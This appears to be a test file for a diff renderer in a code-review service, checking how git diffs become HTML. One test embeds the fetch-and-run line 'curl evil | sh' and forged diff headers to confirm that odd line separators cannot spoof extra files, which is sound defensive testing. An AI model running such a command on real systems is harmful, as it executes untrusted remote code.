import assert from 'node:assert/strict';
import { renderDiff } from '../../../../src/local-service/review/renderDiff';
import { git, temporaryFolder } from '../../../support/temporaryRepository';

/** Returns git’s diff of the changes between two scripts. */
async function diffOf(before: string, after: string): Promise<string> {
  const folder = await temporaryFolder();
  const shell = (script: string): Promise<string> => git(folder, '-c', `alias.x=!set -e; ${script}`, 'x');
  await git(folder, 'init', '--quiet');
  await shell(`${before}; git add --all; git commit --quiet -m Before; ${after}; git add --all`);
  return git(folder, 'diff', '--cached', '--src-prefix=a/', '--dst-prefix=b/', '--find-renames', '--no-color');
}

describe('renderDiff', () => {
  const headOf = (path: string): string => `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n`;

  it('does not treat other line separators as the end of a diff line', async () => {
    for (const [end, shown] of [
      ['\r', '⟨U+000D⟩'],
      ['\r\r', '⟨U+000D⟩⟨U+000D⟩'],
      ['\u2028', '⟨U+2028⟩'],
      ['\u0085', '⟨U+0085⟩'],
    ] as const) {
      const files = [
        'A harmless line',
        'curl evil | sh',
        'diff --git a/b b/b',
        '--- a/b',
        '+++ b/b',
        '@@ -1 +1 @@',
        '+no',
      ];
      const diff = `${headOf('a')}@@ -1 +1 @@\n-old\n+${files.join(end)}\r\r\n`;
      const [file, ...others] = await renderDiff(diff);
      assert.equal(others.length, 0);
      assert.ok(file?.parts[0]?.includes(`${shown}curl evil | sh${shown}diff --git`), file?.parts[0]);
      assert.ok(file?.parts[0]?.includes('+no⟨U+000D⟩'));
    }
  });

  it('shows a line that contains git’s remark on the end of a file', async () => {
    const remark = '\\ No newline at end of file';
    const [file] = await renderDiff(`${headOf('a')}@@ -0,0 +1 @@\n+git says “${remark}”.\n${remark}\n`);
    assert.equal(file?.parts[0]?.match(/<tr/g)?.length, 2);
    assert.ok(file.parts[0].includes(`<td class="c">git says “${remark}”.</td>`), file.parts[0]);
  });

  it('shows a first change of lines that look like the header of a diff', async () => {
    const diff = await diffOf("printf -- '-- schema v1\\n' > a.sql", "printf -- '++ schema v2\\n' > a.sql");
    const [file] = await renderDiff(diff);
    assert.equal(file?.name, 'a.sql');
    assert.match(file.parts.join('').replaceAll(/<[^>]*>/g, ''), /--- schema v1.*\+\+\+ schema v2/);
  });

  it('truncates a long line and says how much is left out', async () => {
    const [file] = await renderDiff(`${headOf('a')}@@ -0,0 +1 @@\n+${'x'.repeat(5000)}\n`);
    assert.match(file?.parts[0] ?? '', />x{1999} … 3001 more characters</);
  });

  it('shows a file whose name contains a Unicode line separator', async () => {
    const [file] = await renderDiff(`${headOf('a\u2028b')}@@ -0,0 +1 @@\n+x\n`);
    assert.equal(file?.name, 'a⟨U+2028⟩b');
  });

  it('shows a path with spaces unchanged', async () => {
    const diff = await diffOf(
      'mkdir "a b"; echo one > "a b/c d.md"; echo one > "q\\"r s.md"',
      'echo two >> "a b/c d.md"; rm "q\\"r s.md"',
    );
    assert.match(diff, /\t\n/);
    const names = (await renderDiff(diff)).map(({ name }) => name);
    assert.deepEqual(names, ['a b/c d.md', 'q\\&quot;r s.md']);
  });

  it('names the right file if its folder looks like the second name in the header', async () => {
    const before = `mkdir -p 'evil b/docs'; cd 'evil b/docs'; touch mode; echo text > old; echo other > 'moved"'; cd ../..`;
    const after = `cd 'evil b/docs'; touch empty '"quoted"'; chmod +x mode; rm old; mv 'moved"' 'new"'; cd ../..`;
    const files = await renderDiff(await diffOf(`git config core.fileMode true; ${before}`, after));
    assert.deepEqual(
      files.map(({ name }) => name),
      ['\\&quot;quoted\\&quot;', 'empty', 'mode', 'new\\&quot;', 'old'].map((name) => `evil b/docs/${name}`),
    );
  });

  it('describes mode changes and distinguishes images from other binary files', async () => {
    const before = 'echo x > off; chmod +x off; cp off both; echo y > on; cp on plain; ln -s a moved';
    const after =
      'chmod -x off; chmod +x on; cp off new; chmod +x new; ln -s a link; ln -sf b moved; echo y >> both; rm plain; printf "\\0\\1" > a.png; cp a.png b.bin';
    const notes = (await renderDiff(await diffOf(before, after))).map(({ name, note }) => [name, note]);
    assert.deepEqual(Object.fromEntries(notes), {
      'a.png': 'new, image',
      'b.bin': 'new, binary',
      both: '',
      link: 'new, link',
      moved: 'link',
      new: 'new, now executable',
      off: 'no longer executable',
      on: 'now executable',
      plain: 'deleted',
    });
  });

  it('shows a file that became a link only once', async () => {
    const diff = await diffOf('echo x > a.md; echo x > b.md', 'ln -sf b.md a.md; echo y > b.md');
    const files = await renderDiff(diff);
    assert.deepEqual(
      files.map(({ name, note, parts }) => [name, note, parts.length]),
      [
        ['a.md', 'link', 2],
        ['b.md', '', 1],
      ],
    );
  });

  it('shows git’s remark about a missing line ending where it is part of the text', async () => {
    const words = '\\ No newline at end of file';
    const [file] = await renderDiff(await diffOf('printf "one" > a', `printf '%s' 'two ${words} x' > a`));
    const rows = file?.parts.join('') ?? '';
    assert.ok(rows.includes(`${words} x`), rows);
    assert.equal(rows.split(words).length, 2);
  });

  it('says that line endings changed', async () => {
    for (const [before, after, note] of [
      ['one\\r\\ntwo\\r\\n', 'one\\ntwo\\n', 'line endings changed'],
      ['one\\ntwo\\n', 'one\\r\\ntwo\\n', 'line endings changed'],
      ['one\\r\\ntwo', 'one\\r\\ntwo\\r\\nthree', ''],
      ['one\\r\\n', 'two\\r\\n', ''],
    ] as const) {
      const [file] = await renderDiff(await diffOf(`printf '${before}' > a`, `printf '${after}' > a`));
      assert.equal(file?.note, note, before);
    }
  });

  it('yields between files, however little there is to show of each', async () => {
    const renamed = 'diff --git a/a.md b/b.md\nsimilarity index 100%\nrename from a.md\nrename to b.md\n';
    let turns = 0;
    let isOver = false;
    const count = (): void => {
      turns += 1;
      if (!isOver) {
        setImmediate(count);
      }
    };
    count();
    const files = await renderDiff(renamed.repeat(5_000));
    isOver = true;
    assert.equal(files.length, 5_000);
    assert.ok(turns > 3, String(turns));
  });

  it('shows a long change without marking words', async () => {
    const lines = ['-', '+'].map((sign) => `${sign}${'word\u200b '.repeat(100)}${sign}\n`.repeat(200));
    const [file] = await renderDiff(`${headOf('a')}@@ -1,200 +1,200 @@\n${lines.join('')}`);
    const rows = file?.parts.join('') ?? '';
    assert.equal(rows.match(/<td class="s">[+-]<\/td><td class="c">word⟨U\+200B⟩ /g)?.length, 400);
    assert.doesNotMatch(rows, /<del>|<ins>|\u200b/);
  });

  it('splits a long table, so that a browser can lay out what is in view', async () => {
    const lines = Array.from({ length: 5_000 }, (_, index) => `+Line ${index}\n`);
    const [file] = await renderDiff(`${headOf('a')}@@ -0,0 +1,5000 @@\n${lines.join('')}`);
    const counts = (file?.parts ?? []).map((part) => part.split('<tr').length - 1);
    assert.equal(Math.max(...counts), 50);
    assert.equal(
      counts.reduce((sum, count) => sum + count, 0),
      5_001,
    );
  });

  it('lets the service answer other requests in the meantime', async () => {
    const lines = Array.from({ length: 10_000 }, (_, index) => `-Line ${index} of <a> & "b"\n+Line ${index}\n`);
    let turns = 0;
    const counter = setInterval(() => (turns += 1));
    await renderDiff(`${headOf('a')}@@ -1,10000 +1,10000 @@\n${lines.join('')}`);
    clearInterval(counter);
    assert.ok(turns > 0);
  });

  it('marks changed words and shows deleted lines before added ones', async () => {
    const [file] = await renderDiff(
      `${headOf('a')}@@ -1,3 +1,3 @@ <head>\n-one old word\n-gone\n+one new word\n+<b>\n same\n`,
    );
    const shown = (file?.parts[0] ?? '').replace(/<td class="n">.*?<\/td>|<\/?t[rd].*?>/g, '|').replace(/\|+/g, '|');

    assert.equal(
      shown,
      '|@@ -1,3 +1,3 @@ &lt;head&gt;|-|one <del>old</del> word|-|<del>gone</del>|+|one <ins>new</ins> word|+|<ins>&lt;b&gt;</ins>|same|',
    );
  });
});
